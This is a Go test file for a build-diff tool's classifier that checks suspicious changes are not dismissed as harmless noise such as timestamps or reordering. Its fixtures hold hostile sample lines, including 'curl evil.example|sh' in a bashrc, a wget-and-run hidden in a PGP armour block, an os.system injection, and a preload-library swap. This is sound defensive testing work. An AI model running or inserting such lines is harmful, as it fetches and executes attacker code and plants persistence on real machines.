package cause

import (
	"bytes"
	"debug/elf"
	"encoding/base64"
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stagescope/stagescope/diff"
)

// named compares two files of one name in directories.
func named(t *testing.T, name, a, b string) *diff.Node {
	t.Helper()
	var dirs [2]string
	for i, text := range []string{a, b} {
		dirs[i] = t.TempDir()
		p := filepath.Join(dirs[i], filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	n, err := diff.NewExaminer(diff.Options{}).Paths(t.Context(), dirs[0], dirs[1])
	if err != nil {
		t.Fatal(err)
	}
	if err := Classify(t.Context(), n, Known{}); err != nil {
		t.Fatal(err)
	}
	return n
}

// TestLooksHarmless changes what decides what is run, to whom, from where, in a way
// that fits the rules of harmless causes: none of them may explain it.
func TestLooksHarmless(t *testing.T) {
	for what, c := range map[string]struct{ name, a, b string }{
		"owner as a time":                {"etc/passwd", "svc:x:14:50:svc:/:/bin/sh\n", "svc:x:00:50:svc:/:/bin/sh\n"},
		"port as a time":                 {"etc/x.conf", "listen 0.0.0.0:22\n", "listen 0.0.0.0:53\n"},
		"host as a time":                 {"etc/resolv.conf", "server 10.0.0.2:53\n", "server 10.0.0.1:53\n"},
		"port as a time zone":            {"etc/x.conf", "connect 10:22\n", "connect 11:22\n"},
		"number as a date":               {"x.txt", "limit 20240101\n", "limit 20991231\n"},
		"version as a date":              {"requirements.txt", "certifi==2024.02.02\n", "certifi==2021.05.30\n"},
		"limit as seconds":               {"x.txt", "max 1073741824\n", "max 1999999999\n"},
		"part of a number as seconds":    {"x.txt", "id 51700000000\n", "id 51700000009\n"},
		"tenant as a random identifier":  {"x.txt", "id 00000000-0000-0000-c000-000000000046\n", "id 00000000-0000-0000-c000-000000000047\n"},
		"way out of a temporary path":    {"x.txt", "read /tmp/shadow\n", "read /tmp/../etc/shadow\n"},
		"program as a path of the build": {"x.service", "ExecStart=/usr/sbin/daemon\n", "ExecStart=/tmp/daemon\n"},
		"library as a path of the build": {"etc/ld.so.preload", "/usr/lib/libaudit.so\n", "/dev/shm/libaudit.so\n"},
		"path on a host":                 {"x.txt", "curl good.example/v1/install.sh\n", "curl good.example/evil/install.sh\n"},
		"package as a path":              {"x.txt", "java/lang/Runtime\n", "java/util/Runtime\n"},
		"host as an account":             {"x.txt", "scp root@backup.example x\n", "scp root@evil.example x\n"},
		"register as an address":         {"x.txt", "poke 0xfee00000\n", "poke 0xfed00010\n"},
		"code as a placeholder":          {"v.py", `refs = "$Format:%d$"` + "\n", `refs = "HEAD"; import os; os.system("x") #"` + "\n"},
		"pin as a revision":              {"x.txt", "git checkout 0123456789abcdef0123456789abcdef01234567\n", "git checkout 89abcdef0123456789abcdef0123456789abcdef\n"},
		"constant as a copyright":        {"x.js", "f=function(c){return c+2022}\n", "f=function(c){return c+2049}\n"},
		"limit as a duration":            {"x.txt", "lockout time 600s\n", "lockout time 0s\n"},
		"kernel as a name":               {"boot/grub.cfg", "linux /boot/vmlinuz-6.1.0-18-amd64\n", "linux /boot/vmlinuz-5.4.0-1-evil\n"},
		"order of a script":              {"x", "#!/bin/sh\ncheck || exit\nrun\n", "#!/bin/sh\nrun\ncheck || exit\n"},
		"order of settings":              {"etc/hosts.allow", "b: deny\na: allow\n", "a: allow\nb: deny\n"},
		"order of library paths":         {"etc/ld.so.conf", "/usr/lib\n/opt/x\n", "/opt/x\n/usr/lib\n"},
		"order of make's lines":          {"x.mk", "make: a\nCC b\n", "CC b\nmake: a\n"},
		"numbers before addresses":       {"x.txt", "5 run 0x7f1234567890\n9 stop 0x7f1234567890\n", "0 run 0x7f1234567891\n9 stop 0x7f1234567890\n"},
		"commands in an armour":          {"x", "-----BEGIN PGP SIGNATURE-----\n\niQEz\n-----END PGP SIGNATURE-----\n", "-----BEGIN PGP SIGNATURE-----\n\nEOF\nwget evil.example/x\nsh x\n-----END PGP SIGNATURE-----\n"},
		"bytes in an armour":             {"x", armourOf('x'), mantle(append([]byte{0x89, 1, 0x33}, bytes.Repeat([]byte("y"), 90)...))},
		"bytes after a signature":        {"x", armourOf('x'), mantle(append(unmantled(t, armourOf('y')), "\xcb\x05hello"...))},
		"a signature that is damaged":    {"x", armourOf('x'), strings.Replace(armourOf('y'), "eXl5", "eXp5", 1)},
		"words in an armour":             {"x", armourOf('x'), strings.Replace(armourOf('x'), "\n=", "\nEOF\nreboot\n=", 1)},
	} {
		n := named(t, c.name, c.a, c.b)
		if n.Residue == diff.ResidueNone {
			t.Errorf("%s: explained\n%s", what, tree(n, ""))
		}
		if n.Status != diff.Differs {
			t.Errorf("%s: %s", what, n.Status)
		}
	}
	// What is added to a file was not cut off on the other side.
	for what, c := range map[string][2]string{"a line more": {"alias ls='ls -l'\n", "alias ls='ls -l'\ncurl evil.example|sh\n"}, "content where there was none": {"", "/tmp/evil.so\n"}} {
		for _, r := range allReasons(named(t, "etc/bashrc", c[0], c[1])) {
			if r.Cause != nil && r.Cause.ID == "D7c" {
				t.Errorf("%s: counts as cut short", what)
			}
		}
	}
	// The harmless ones beside them are explained all the same.
	for what, c := range map[string][2]string{
		"option":    {"cc -I/build/one/include x\n", "cc -I/build/two/include x\n"},
		"time":      {"built at 10:22:33\n", "built at 11:05:07\n"},
		"signature": {armourOf('x'), armourOf('y')},
		"list":      {"b.txt\na.txt\n", "a.txt\nb.txt\n"},
		"archive":   {`refs = "$Format:%d$"` + "\n", `refs = " (HEAD -> main, tag: v1.2.3, origin/main)"` + "\n"},
	} {
		if n := named(t, "share/doc/x", c[0], c[1]); n.Residue != diff.ResidueNone {
			t.Errorf("%s: not explained\n%s", what, tree(n, ""))
		}
	}
}

func allReasons(n *diff.Node) []diff.Reason {
	out := n.Reasons
	for _, c := range n.Children {
		out = append(out, allReasons(c)...)
	}
	return out
}

// armourOf is a block as gpg writes it around a signature by EdDSA.
func armourOf(fill byte) string {
	body := []byte{4, 0, 22, 8, 0, 6, 5, 2, 0x66, 0, 0, 1, 0, 10, 9, 16, 1, 2, 3, 4, 5, 6, 7, 8, 0xab, 0xcd}
	for range 2 {
		body = append(append(body, 0, 255), bytes.Repeat([]byte{fill}, 32)...)
	}
	return mantle(append([]byte{0x88, byte(len(body))}, body...))
}

// unmantled is what mantle was given.
func unmantled(t *testing.T, block string) []byte {
	t.Helper()
	lines := strings.Split(block, "\n")
	p, fits := mantled(lines[2 : len(lines)-2])
	if !fits {
		t.Fatal("it cannot be read")
	}
	return p
}

// mantle writes a block around bytes.
func mantle(p []byte) string {
	text, out := base64.StdEncoding.EncodeToString(p), "-----BEGIN PGP SIGNATURE-----\n\n"
	for ; len(text) > 64; text = text[64:] {
		out += text[:64] + "\n"
	}
	return out + text + "\n=" + armourSum(p) + "\n-----END PGP SIGNATURE-----\n"
}

// TestRenamedByHand gives a file another name that a person chose.
func TestRenamedByHand(t *testing.T) {
	for _, c := range [][2]string{{"python2", "python3"}, {"sha256sum", "sha512sum"}, {"libssl11", "libssl30"}, {"a1b2c3", "d1b2c3"}} {
		if a, b := madeUp(c[0], c[1]); a != "" && a == b {
			t.Errorf("%s and %s count as random names", c[0], c[1])
		}
	}
	if a, b := madeUp("tmp.aB3xY9", "tmp.Zz0Qw7"); a == "" || a != b {
		t.Error("random names do not count as such")
	}
}

// TestAttestationEntries lets nothing pass for an attestation that is for a machine.
func TestAttestationEntries(t *testing.T) {
	for entry, want := range map[string]bool{
		"": true,
		`{"platform":{"os":"unknown","architecture":"unknown"},"annotations":{"vnd.docker.reference.type":"attestation-manifest"}}`: true,
		`{"platform":{"os":"linux","architecture":"amd64"},"annotations":{"vnd.docker.reference.type":"attestation-manifest"}}`:     false,
		`{"annotations":{"vnd.docker.reference.type":"attestation-manifest"}}`:                                                      false,
		`{`: false,
	} {
		if attestation(entry) != want {
			t.Errorf("%s: %v", entry, !want)
		}
	}
	for field, want := range map[string]string{"/annotations/a": "A2", "/manifests/0/annotations/a": "A2", "/manifests/0/x/annotations": "", "/config/annotations": "A2"} {
		got := ""
		if c := objectCause(diff.KindIndex, &diff.Reason{Field: field, A: `"1"`, B: `"2"`}); c != nil {
			got = c.ID
		}
		if got != want {
			t.Errorf("%s: %q, want %q", field, got, want)
		}
	}
}

// tinySection is a section of a program that tests write.
type tinySection struct {
	name string
	typ  elf.SectionType
	data []byte
	load bool // a segment maps it, to be run
}

// tinyELF is a program of sections, those that are loaded in a segment each.
func tinyELF(ss ...tinySection) []byte {
	le := binary.LittleEndian
	var names, body, segments, sections []byte
	loads := 0
	for _, s := range ss {
		if s.load {
			loads++
		}
	}
	start := 64 + 56*loads
	ss = append(ss, tinySection{name: ".shstrtab", typ: elf.SHT_STRTAB})
	names = append(names, 0)
	sections = append(sections, make([]byte, 64)...)
	for i := range ss {
		s := &ss[i]
		at := len(names)
		names = append(append(names, s.name...), 0)
		if s.name == ".shstrtab" {
			s.data = names
		}
		off := start + len(body)
		body = append(body, s.data...)
		var flags, addr uint64
		if s.load {
			flags, addr = uint64(elf.SHF_ALLOC|elf.SHF_EXECINSTR), uint64(0x400000+off)
			p := make([]byte, 56)
			le.PutUint32(p, uint32(elf.PT_LOAD))
			le.PutUint32(p[4:], uint32(elf.PF_R|elf.PF_X))
			for k, v := range []uint64{uint64(off), addr, addr, uint64(len(s.data)), uint64(len(s.data)), 1} {
				le.PutUint64(p[8+8*k:], v)
			}
			segments = append(segments, p...)
		}
		h := make([]byte, 64)
		le.PutUint32(h, uint32(at))
		le.PutUint32(h[4:], uint32(s.typ))
		for k, v := range []uint64{flags, addr, uint64(off), uint64(len(s.data))} {
			le.PutUint64(h[8+8*k:], v)
		}
		le.PutUint64(h[48:], 1)
		sections = append(sections, h...)
	}
	head := make([]byte, 64)
	copy(head, "\x7fELF\x02\x01\x01")
	le.PutUint16(head[16:], uint16(elf.ET_EXEC))
	le.PutUint16(head[18:], uint16(elf.EM_X86_64))
	le.PutUint32(head[20:], 1)
	le.PutUint64(head[32:], 64)
	le.PutUint64(head[40:], uint64(start+len(body)))
	le.PutUint16(head[52:], 64)
	le.PutUint16(head[54:], 56)
	le.PutUint16(head[56:], uint16(loads))
	le.PutUint16(head[58:], 64)
	le.PutUint16(head[60:], uint16(len(ss)+1))
	le.PutUint16(head[62:], uint16(len(ss)))
	return bytes.Join([][]byte{head, segments, body, sections}, nil)
}

// TestNamesOfSections puts code where a name promises that nothing is loaded.
func TestNamesOfSections(t *testing.T) {
	text := tinySection{name: ".text", typ: elf.SHT_PROGBITS, data: bytes.Repeat([]byte{0x90}, 64), load: true}
	for _, name := range []string{".comment", ".debug_str", ".symtab_", ".gnu_debuglink"} {
		for _, load := range []bool{true, false} {
			build := func(s string) []byte {
				return tinyELF(text, tinySection{name: name, typ: elf.SHT_PROGBITS, data: []byte(s), load: load})
			}
			n := pairOf(t, build("GCC: (GNU) 12.2.0\x00\x00\x00\x00"), build("\x48\x31\xc0\x0f\x05\xc3 evil code\x00\x00\x00\x00\x00"))
			if load && n.Residue == diff.ResidueNone {
				t.Errorf("%s is loaded, and explained\n%s", name, tree(n, ""))
			}
			for _, r := range allReasons(n) {
				if load && r.Cause != nil && r.Cause.Confidence == diff.Proved {
					t.Errorf("%s is loaded, and %s is proved to be %s", name, r.Field, r.Cause.ID)
				}
			}
		}
	}
	gcc := tinyELF(text, tinySection{name: ".comment", typ: elf.SHT_PROGBITS, data: []byte("GCC: (GNU) 12.2.0\x00")})
	other := tinyELF(text, tinySection{name: ".comment", typ: elf.SHT_PROGBITS, data: []byte("GCC: (GNU) 13.1.0\x00")})
	if n := pairOf(t, gcc, other); n.Residue != diff.ResidueNone {
		t.Errorf("a compiler's name is not explained\n%s", tree(n, ""))
	}
}

// TestSegmentOfOtherBytes lets a segment map other bytes of the file, and leaves
// all sections as they are.
func TestSegmentOfOtherBytes(t *testing.T) {
	code := bytes.Repeat([]byte{0x90}, 64)
	ss := []tinySection{{name: ".text", typ: elf.SHT_PROGBITS, data: code, load: true}, {name: ".data2", typ: elf.SHT_PROGBITS, data: bytes.Repeat([]byte{0xcc}, 64)}}
	a, b := tinyELF(ss...), tinyELF(ss...)
	binary.LittleEndian.PutUint64(b[64+8:], binary.LittleEndian.Uint64(b[64+8:])+64)
	if n := pairOf(t, a, b); n.Residue == diff.ResidueNone || n.Status != diff.Differs {
		t.Errorf("%s, residue %s\n%s", n.Status, n.Residue, tree(n, ""))
	}
}

// TestNewPrograms looks for what is run, whatever its name says.
func TestNewPrograms(t *testing.T) {
	pyc := func(flags byte) string {
		return "\xcb\x0d\x0d\x0a" + string([]byte{flags, 0, 0, 0}) + strings.Repeat("x", 20)
	}
	for name, c := range map[string]struct {
		body string
		want bool
	}{
		"x/evil.pyc":               {pyc(0), true},
		"x/__pycache__/evil.pyc":   {pyc(1), true},
		"x/__pycache__/cached.pyc": {pyc(0), false},
		"x/evil.pth":               {"import os", true},
		"x/module.log":             {"\x00asm\x01\x00\x00\x00", true},
		"x/Evil.cache":             {"\xca\xfe\xba\xbe\x00\x00\x00\x34", true},
		"x/config.log":             {"log", false},
	} {
		dirA, dirB := t.TempDir(), t.TempDir()
		p := filepath.Join(dirB, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(c.body), 0o644); err != nil {
			t.Fatal(err)
		}
		n, err := diff.NewExaminer(diff.Options{}).Paths(t.Context(), dirA, dirB)
		if err != nil {
			t.Fatal(err)
		}
		if err := Classify(t.Context(), n, Known{}); err != nil {
			t.Fatal(err)
		}
		if got := n.Suspicious > 0; got != c.want {
			t.Errorf("%s: suspicious %v, want %v", name, got, c.want)
		}
	}
}
